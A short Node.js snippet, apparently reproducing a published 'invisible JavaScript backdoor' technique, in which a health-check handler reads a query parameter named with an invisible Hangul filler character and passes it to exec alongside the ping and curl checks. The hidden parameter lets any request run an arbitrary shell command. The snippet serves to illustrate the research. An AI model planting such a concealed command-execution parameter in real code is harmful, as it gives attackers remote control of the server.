// source: Certitude, "The Invisible JavaScript Backdoor" (2021-11): a parameter named by a Hangul
// filler, destructured from the query string, is one more command the health check runs. Inert: the
// commands it lists name localhost.
const { exec } = require('child_process');
module.exports = (req) => {
  const { timeout,ㅤ} = req.query;
  const checkCommands = ['ping -c 1 localhost', 'curl -s http://localhost/health',ㅤ];
  checkCommands.forEach((cmd) => cmd && exec(cmd, { timeout: +timeout || 5000 }));
};
